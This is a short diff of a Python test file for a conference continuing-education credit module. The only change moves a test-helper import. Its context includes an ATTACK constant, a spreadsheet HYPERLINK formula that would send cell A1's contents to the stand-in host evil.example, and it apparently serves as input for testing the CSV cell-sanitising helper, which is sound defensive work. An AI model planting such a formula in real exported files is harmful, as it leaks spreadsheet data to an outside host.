@@ -13,7 +13,7 @@ from accounts.models import ProfessionalProfile
 from conference.models import EventCredit, Registration
 from conference.services import cme, cme_reports
 from conference.services.spreadsheets import csv_text, safe_cell
-from tests.conference.cme_support import attend, learner, make_event
+from tests.support.cme import attend, learner, make_event
 
 ROOT = Path(__file__).resolve().parents[2]
 ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
